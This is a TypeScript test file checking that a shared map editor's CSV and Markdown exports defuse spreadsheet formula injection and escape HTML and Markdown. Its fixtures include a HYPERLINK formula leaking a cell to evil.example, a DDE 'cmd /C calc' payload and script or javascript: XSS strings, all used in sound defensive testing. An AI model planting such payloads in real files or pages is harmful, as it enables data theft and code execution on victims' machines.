// Formula-safe and HTML-safe exports (CONTRACT §6b): what an editor writes into a map never runs
// when a lead opens the CSV in a spreadsheet or renders the Markdown.
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import * as Y from 'yjs'
import { csvField, defuseFormula, escapeHtml, markdownCell, markdownText, restoreFormula } from '../shared/escape.js'
import { toCsv, toMarkdown } from '../shared/export.js'
import { addPerson, addResponsibility, addRole, setAssignment } from '../shared/schema.js'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'

test('every formula start of OWASP gets a leading apostrophe', () => {
  assert.is(defuseFormula(HYPERLINK), `'${HYPERLINK}`)
  assert.is(defuseFormula("+SUM(1+1)*cmd|' /C calc'!A0"), "'+SUM(1+1)*cmd|' /C calc'!A0")
  assert.is(defuseFormula('-1+1'), "'-1+1")
  assert.is(defuseFormula('-2-3'), "'-2-3")
  assert.is(defuseFormula('@SUM(1+1)'), "'@SUM(1+1)")
  assert.is(defuseFormula('\t=1+1'), "'\t=1+1")
  assert.is(defuseFormula('\r=1+1'), "'\r=1+1")
})

test('ordinary text is left alone, formula characters inside it too', () => {
  for (const value of ['', 'Ana', 'API design', 'a=b', '1+1', 'x-y', 'mail@example.com', ' =spaced', '日本語']) {
    assert.is(defuseFormula(value), value)
  }
})

test('restoreFormula undoes defuseFormula exactly, values that start with an apostrophe too', () => {
  for (const value of [HYPERLINK, '-1', '@x', "'=x", "''+x", "'plain", "'", 'plain', '', '\tx']) {
    assert.is(restoreFormula(defuseFormula(value)), value, JSON.stringify(value))
  }
  assert.is(defuseFormula("'=x"), "''=x")
  assert.is(defuseFormula("'plain"), "'plain")
})

test('csvField defuses, then quotes by RFC 4180', () => {
  assert.is(csvField(HYPERLINK), `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`)
  assert.is(csvField('@cmd'), "'@cmd")
  assert.is(csvField('a,b'), '"a,b"')
  assert.is(csvField('\r=1'), `"'\r=1"`)
})

test('HTML and Markdown syntax arrive as text', () => {
  assert.is(escapeHtml('<script>alert("x")</script> & co'), '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co')
  assert.is(markdownText('[link](javascript:alert(1))'), '\\[link\\](javascript:alert(1))')
  assert.is(markdownText('<img src=x onerror=alert(1)>'), '&lt;img src=x onerror=alert(1)&gt;')
  assert.is(markdownText('`code` and \\'), '\\`code\\` and \\\\')
  assert.is(markdownCell('a | b\nc'), 'a \\| b<br>c')
  assert.is(markdownCell('=1+1'), "'=1+1")
})

/** A map in which an editor planted formulas, HTML and a link in every text an export writes. */
function plantedMap(): Y.Doc {
  const doc = new Y.Doc()
  doc.getMap('meta').set('title', '=HYPERLINK("http://evil.example","Open") <b>x</b>')
  addRole(doc, 'ops', '@ops team')
  addPerson(doc, { id: '-2-3', name: '+SUM(1+1)', role: 'ops' })
  addResponsibility(doc, { id: 'r1', title: HYPERLINK, area: "+SUM(1+1)*cmd|' /C calc'!A0" })
  addResponsibility(doc, { id: 'r2', title: '<script>alert(1)</script> | [x](javascript:alert(1))', area: '\tTabbed' })
  setAssignment(doc, 'r1', '-2-3', 'A', 'u')
  setAssignment(doc, 'r2', '@ops', 'R', 'u')
  return doc
}

test('CSV export: no field starts with a formula character', () => {
  const csv = toCsv(plantedMap())
  const lines = csv.split('\r\n')
  assert.is(lines[0], 'responsibility_id,area,responsibility,assignee,assignee_kind,letter')
  assert.is(lines[1], `r1,'+SUM(1+1)*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")",'-2-3,person,A`)
  assert.is(lines[2], `r2,'\tTabbed,<script>alert(1)</script> | [x](javascript:alert(1)),'@ops,role,R`)
  // Split on commas outside quotes: every field either starts safely or with the apostrophe.
  for (const line of lines.slice(1, 3)) {
    for (const field of line.match(/("([^"]|"")*"|[^,]*)/g)!.filter((f) => f !== '')) {
      assert.not.match(field.replace(/^"/, ''), /^[=+\-@\t\r]/, field)
    }
  }
})

test('Markdown export: HTML escaped, links broken, formulas defused, pipes escaped', () => {
  const md = toMarkdown(plantedMap())
  const lines = md.split('\n')
  assert.is(lines[0], `# '=HYPERLINK(&quot;http://evil.example&quot;,&quot;Open&quot;) &lt;b&gt;x&lt;/b&gt;`)
  assert.is(lines[2], "| Area | Responsibility | '+SUM(1+1) | '@ops team |")
  assert.ok(lines.includes(`| '+SUM(1+1)*cmd\\|' /C calc'!A0 | '=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click for details&quot;) | A |  |`), md)
  assert.ok(lines.includes(`| '\tTabbed | &lt;script&gt;alert(1)&lt;/script&gt; \\| \\[x\\](javascript:alert(1)) |  | R |`), md)
  // No tag and no link survives: every `](` is escaped.
  assert.not.match(md, /<script|<b>|[^\\]\]\(/)
})

test.run()
